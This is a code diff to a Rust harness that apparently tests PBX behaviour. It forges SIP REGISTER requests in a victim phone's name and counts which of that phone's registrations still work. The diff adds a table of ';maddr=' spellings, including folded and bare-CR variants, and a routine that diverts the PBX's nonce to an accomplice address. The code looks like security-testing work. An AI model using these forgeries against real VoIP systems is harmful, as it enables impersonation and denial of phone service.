@@ -1,4 +1,4 @@
-//! Packets in the name of somebody who has not sent them, and what he loses by that.
+//! Packets with a forged source, and their effect on the phone at that source.
 
 use std::{
     net::{IpAddr, SocketAddr, SocketAddrV4},
@@ -13,27 +13,35 @@ use crate::{
     namespace::Namespace,
 };
 
-/// Spellings of `;maddr=` that PBXs read; `B` stands for the address.
-pub const MADDR: [(&str, &str, Form); 5] = [
-    ("maddr", ";maddr=B", Form::Plain),
-    ("MADDR", ";MADDR=B", Form::Plain),
-    ("maddr, blanks", ";maddr  =  B", Form::Plain),
-    ("maddr, folded", ";maddr\r\n =B", Form::Plain),
-    ("maddr, bare CR", ";maddr=B", Form::BareCr),
+/// A way to write `;maddr=` that PBXs read.
+#[derive(Clone, Copy, Debug)]
+pub struct Maddr {
+    pub name: &'static str,
+    /// `B` stands for the address.
+    pub parameter: &'static str,
+    pub form: Form,
+}
+
+pub const MADDR: [Maddr; 5] = [
+    Maddr { name: "maddr", parameter: ";maddr=B", form: Form::Plain },
+    Maddr { name: "MADDR", parameter: ";MADDR=B", form: Form::Plain },
+    Maddr { name: "maddr, blanks", parameter: ";maddr  =  B", form: Form::Plain },
+    Maddr { name: "maddr, folded", parameter: ";maddr\r\n =B", form: Form::Plain },
+    Maddr { name: "maddr, bare CR", parameter: ";maddr=B", form: Form::BareCr },
 ];
 
-/// What the forged requests carry.
+/// The credentials of the forged requests.
 #[derive(Clone, Debug)]
 pub enum Credentials {
-    /// For a nonce that nobody was sent.
+    /// For a made-up nonce.
     MadeUp,
-    /// For the one that an accomplice was sent, who had the PBX's answer to the victim's request come to him.
+    /// For the nonce of an accomplice, which redirected the PBX's answer to a request in the victim's name.
     Of(Challenge),
     /// None, and for a made-up nonce, in turn.
     Mixed,
 }
 
-/// So many requests, at that rate a second, from so many ports of the victim's, beginning with the one that is said.
+/// `count` requests, at `rate` a second, from `ports` ports of the victim, beginning with the port in `victim`.
 #[derive(Clone, Debug)]
 pub struct Forgery {
     pub victim: SocketAddrV4,
@@ -116,7 +124,7 @@ pub struct Victim {
     pbx: SocketAddr,
 }
 
-/// What is left to him.
+/// The registrations that still work for the victim.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
 pub struct Left {
     /// Registrations of the phone itself, and of a phone that is new at the same address, of as many.
@@ -133,7 +141,7 @@ impl Victim {
         Some(victim)
     }
 
-    /// One that nobody has heard of yet.
+    /// A phone that has not registered yet.
     pub fn silent(from: IpAddr, pbx: SocketAddr, account: u32) -> Option<Self> {
         let phone = Subscriber::new(Transport::Udp, from, pbx, account).ok()?;
         Some(Self { phone, from, pbx })
@@ -166,15 +174,15 @@ pub fn stolen_nonce(
     accomplice: (&Namespace, IpAddr),
     victim: SocketAddrV4,
     pbx: SocketAddrV4,
-    (spelling, form): (&str, Form),
+    maddr: Maddr,
 ) -> Option<Challenge> {
     let (host, address) = accomplice;
     let listener: SocketAddr = (address, victim.port()).into();
     let mut channel = host.enter(|| Channel::open(Transport::Udp, listener, pbx.into())).ok()?;
     let plain = request(victim, pbx, "REGISTER", "1001", Form::Plain, None);
-    let diverted = request(victim, pbx, "REGISTER", "1001", form, None).replacen(
+    let diverted = request(victim, pbx, "REGISTER", "1001", maddr.form, None).replacen(
         ";rport",
-        &format!("{};rport", spelling.replace('B', &address.to_string())),
+        &format!("{};rport", maddr.parameter.replace('B', &address.to_string())),
         1,
     );
     let forged = |payload: String| Forged { source: victim, destination: pbx, payload: payload.into_bytes() };
